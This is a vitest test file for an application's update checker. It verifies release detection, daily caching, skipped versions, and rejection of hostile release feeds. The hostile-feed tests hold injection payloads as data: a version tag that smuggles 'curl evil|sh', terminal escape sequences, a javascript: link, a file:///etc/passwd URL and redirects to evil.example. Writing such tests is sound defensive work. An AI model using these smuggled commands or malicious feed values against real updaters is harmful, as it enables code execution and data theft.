import { once } from 'node:events';
import { createServer, type RequestListener } from 'node:http';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { tempFolder } from '../../../e2e/support/temp-folder.ts';
import { startSimulator } from '../../simulator/index.ts';
import { VirtualTime } from '../testing/virtual-time.ts';
import { releaseFeed } from './release-feed.ts';
import { UpdateChecker, type UpdateCheckerDeps } from './update-checker.ts';

const HOUR = 60 * 60_000;

function checkerAt(address: string, more: Partial<UpdateCheckerDeps> & { readonly time?: VirtualTime } = {}) {
  const recordPath = more.recordPath ?? path.join(tempFolder(), 'own', 'updates.json');
  const time = more.time ?? new VirtualTime(Date.now(), true);
  const checker = new UpdateChecker({
    ports: {
      clock: time,
      alarm: time,
      log: { info: () => undefined, warn: () => undefined },
      surroundings: { platform: 'linux', homeDir: '/nowhere', env: {} },
    },
    feed: releaseFeed(undefined, { DAYPASS_RELEASES_URL: address }),
    version: '0.1.0',
    isWanted: () => true,
    commandsFor: (version) => [`install ${version}`],
    ...more,
    recordPath,
  });
  onTestFinished(() => checker.stop());
  return { checker, time, recordPath };
}

async function simulated() {
  const simulator = await startSimulator();
  onTestFinished(() => simulator.close());
  const asked = () => simulator.requests.list().filter(({ route }) => route === 'latestRelease').length;
  return { simulator, asked };
}

/** A server in the place of GitHub's. */
async function serverThat(answers: RequestListener): Promise<string> {
  const server = createServer(answers).listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const address = server.address();
  return `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}/repos/fake-owner/daypass/releases`;
}

const release = (members: object): string =>
  JSON.stringify({ tag_name: 'v0.2.0', draft: false, prerelease: false, ...members });
const answering =
  (body: string, status = 200, headers: Record<string, string> = {}): RequestListener =>
  (_request, response) =>
    void response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(body);

test('a newer release is offered with its page and command; of its text nothing is taken', async () => {
  const { simulator } = await simulated();
  simulator.releases.publish({ version: '0.2.0' });
  const { checker } = checkerAt(simulator.releasesUrl);
  await checker.check();
  expect(checker.now()).toMatchObject({
    isPossible: true,
    isChecking: false,
    available: { version: '0.2.0', commands: ['install 0.2.0'] },
  });
  expect(checker.page()).toBe(`${simulator.url}/fake-owner/daypass/releases/tag/v0.2.0`);
});

test.each(['0.1.0', '0.0.9'])('the release %s is not newer: a build is never offered an older one', async (version) => {
  const { simulator } = await simulated();
  simulator.releases.publish({ version });
  const { checker } = checkerAt(simulator.releasesUrl);
  await checker.check();
  expect(checker.now()).toMatchObject({ checkedAtMillis: expect.any(Number) });
  expect(checker.now().available).toBeUndefined();
  expect(checker.page()).toBeUndefined();
});

test('without any release, and without a repository, there is nothing newer and nothing wrong', async () => {
  const { simulator } = await simulated();
  const { checker } = checkerAt(simulator.releasesUrl);
  await checker.check();
  expect(checker.now().trouble).toBeUndefined();
  const { checker: none } = checkerAt('', {});
  await none.start();
  await none.check();
  expect(none.now()).toEqual({ isPossible: false, isChecking: false });
});

test('a release that the person has hidden stays hidden after a start, and the next one shows', async () => {
  const { simulator } = await simulated();
  simulator.releases.publish({ version: '0.2.0' });
  const { checker, recordPath } = checkerAt(simulator.releasesUrl);
  await checker.check();
  await checker.skip('0.9.0');
  expect(checker.now().available?.version).toBe('0.2.0');
  await checker.skip('0.2.0');
  expect(checker.now().available).toBeUndefined();
  const { checker: next } = checkerAt(simulator.releasesUrl, { recordPath });
  await next.check();
  expect(next.now().available).toBeUndefined();
  const { checker: asked } = checkerAt(simulator.releasesUrl, { recordPath, showsSkipped: true });
  await asked.check();
  expect(asked.now().available?.version).toBe('0.2.0');
  simulator.releases.publish({ version: '0.3.0' });
  await next.check();
  expect(next.now().available?.version).toBe('0.3.0');
});

describe('in the background', () => {
  test('the list is looked at once a day, by its tag where nothing has changed, over starts as well', async () => {
    const { simulator, asked } = await simulated();
    simulator.releases.publish({ version: '0.2.0' });
    const { checker, time, recordPath } = checkerAt(simulator.releasesUrl);
    await checker.start();
    await time.advance(1);
    await expect.poll(() => checker.now().available?.version).toBe('0.2.0');
    expect(asked()).toBe(1);
    await time.advance(23 * HOUR);
    const { checker: second } = checkerAt(simulator.releasesUrl, { recordPath, time });
    const shown = vi.fn<() => void>();
    second.onChange(shown);
    await second.start();
    expect(shown).toHaveBeenCalledOnce();
    await time.advance(HOUR / 2);
    expect(second.now().available?.version).toBe('0.2.0');
    expect(asked()).toBe(1);
    checker.stop();
    // To the minute it is due: a check is given twenty seconds, which time that raced on would use up.
    await time.advance(HOUR / 2);
    await expect.poll(() => asked()).toBe(2);
    await expect.poll(() => second.now().isChecking).toBe(false);
    expect(simulator.requests.list().at(-1)).toMatchObject({ route: 'latestRelease', status: 304 });
    expect(second.now().available?.version).toBe('0.2.0');
  });

  test('nothing is asked while the person has not wanted it', async () => {
    const { simulator, asked } = await simulated();
    let isWanted = false;
    const { checker, time } = checkerAt(simulator.releasesUrl, { isWanted: () => isWanted });
    await checker.start();
    await time.advance(100 * HOUR);
    expect(asked()).toBe(0);
    isWanted = true;
    await checker.start();
    await time.advance(1);
    await expect.poll(() => asked()).toBe(1);
  });

  test('an unreachable server is no news and is tried again an hour later; a person who asks is told', async () => {
    const { checker, time } = checkerAt('http://127.0.0.1:1/repos/fake-owner/daypass/releases');
    await checker.start();
    await time.advance(1);
    await expect.poll(() => checker.now().isChecking).toBe(false);
    expect(checker.now()).toEqual({ isPossible: true, isChecking: false, host: '127.0.0.1:1' });
    await checker.check();
    expect(checker.now().trouble).toMatchObject({ code: 'releasesUnreachable', facts: { host: '127.0.0.1:1' } });
  });

  test('a clock that was set back, and a record of another list, are no reason to trust what is stored', async () => {
    const { simulator, asked } = await simulated();
    simulator.releases.publish({ version: '0.2.0' });
    const recordPath = path.join(tempFolder(), 'updates.json');
    const stored = {
      checkedAtMillis: Date.now() + 1000 * HOUR,
      from: `${simulator.releasesUrl}/latest`,
      latest: '0.1.5',
    };
    await writeFile(recordPath, JSON.stringify(stored));
    const { checker, time } = checkerAt(simulator.releasesUrl, { recordPath });
    await checker.start();
    await time.advance(1);
    await expect.poll(() => asked()).toBe(1);
    await writeFile(recordPath, JSON.stringify({ ...stored, from: 'https://evil.example/releases', latest: '9.9.9' }));
    const { checker: other } = checkerAt(simulator.releasesUrl, { recordPath, isWanted: () => false });
    await other.start();
    expect(other.now().available).toBeUndefined();
  });
});

describe('a hostile list', () => {
  test.each<[string, RequestListener]>([
    ['a version with control characters', answering(release({ tag_name: 'v0.2.0\u001B]0;evil\u0007' }))],
    ['a version of right-to-left marks', answering(release({ tag_name: '\u202Ev0.2.0' }))],
    ['a version that is a command', answering(release({ tag_name: 'v0.2.0;curl evil|sh' }))],
    ['a pre-release', answering(release({ prerelease: true }))],
    ['a pre-release that does not say so', answering(release({ tag_name: 'v0.2.0-rc.1' }))],
    ['a draft', answering(release({ draft: true }))],
    ['a release that leaves out what it is', answering(JSON.stringify({ tag_name: 'v0.2.0' }))],
    ['a list', answering(`[${release({})}]`)],
    ['null', answering('null')],
    ['a page', answering('<!doctype html><title>Airport</title>', 200, { 'content-type': 'text/html' })],
    ['broken JSON', answering(release({}).slice(0, -1))],
    ['bytes that are no text', (_request, response) => void response.end(Buffer.from([0x7b, 0xff, 0xfe, 0x7d]))],
    ['an empty answer', answering('')],
    ['a redirect to another host', answering('', 302, { location: 'https://evil.example/releases/latest' })],
    ['a busy server', answering(release({}), 503)],
    ['too many requests', answering('{"message":"API rate limit exceeded"}', 403)],
    ['depth', answering(`{"tag_name":${'['.repeat(100_000)}`)],
    [
      'an answer without an end',
      (_request, response) => {
        const more = (): void => void (response.writable && response.write(' '.repeat(65_536), more));
        more();
      },
    ],
  ])('%s is never offered, and a person who asks is told', async (_what, answers) => {
    const { checker, recordPath } = checkerAt(await serverThat(answers));
    await checker.check();
    expect(checker.now().available).toBeUndefined();
    expect(checker.page()).toBeUndefined();
    expect(checker.now().trouble?.code).toBe('releasesUnreadable');
    expect(Object.keys(JSON.parse(await readFile(recordPath, 'utf8'))).toSorted()).toEqual(['checkedAtMillis', 'from']);
  });

  test('one that never answers is given up after twenty seconds', async () => {
    const arrived = new EventTarget();
    const { checker, time } = checkerAt(await serverThat(() => void arrived.dispatchEvent(new Event('request'))));
    const request = once(arrived, 'request');
    const checking = checker.check();
    await request;
    expect(checker.now().isChecking).toBe(true);
    await time.advance(20_000);
    await checking;
    expect(checker.now()).toMatchObject({ isChecking: false, trouble: { code: 'releasesUnreachable' } });
  });

  test('addresses in it are not used: the page is that of the known repository', async () => {
    const evil = {
      html_url: 'https://evil.example/',
      body: '[click](javascript:alert(1))',
      assets: [{ browser_download_url: 'file:///etc/passwd' }],
    };
    const { checker } = checkerAt(await serverThat(answering(release(evil), 200, { etag: 'bad\tetag' })));
    await checker.check();
    expect(checker.page()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/fake-owner\/daypass\/releases\/tag\/v0\.2\.0$/);
    expect(JSON.stringify(checker.now())).not.toMatch(/evil|javascript|passwd/);
  });
});

test('a disk that refuses is no reason to offer nothing', async () => {
  const { simulator } = await simulated();
  simulator.releases.publish({ version: '0.2.0' });
  const { checker } = checkerAt(simulator.releasesUrl, { recordPath: '/dev/null/updates.json' });
  await checker.check();
  expect(checker.now().available?.version).toBe('0.2.0');
});

test.each([
  '',
  '{',
  '[]',
  'null',
  '{"checkedAtMillis":"x"}',
  '{"checkedAtMillis":1,"from":"https://a","latest":"evil"}',
])('a record that another program wrote is treated as missing: %j', async (text) => {
  const { simulator } = await simulated();
  const recordPath = path.join(tempFolder(), 'updates.json');
  await writeFile(recordPath, text);
  const { checker } = checkerAt(simulator.releasesUrl, { recordPath, isWanted: () => false });
  await checker.start();
  expect(checker.now().available).toBeUndefined();
});
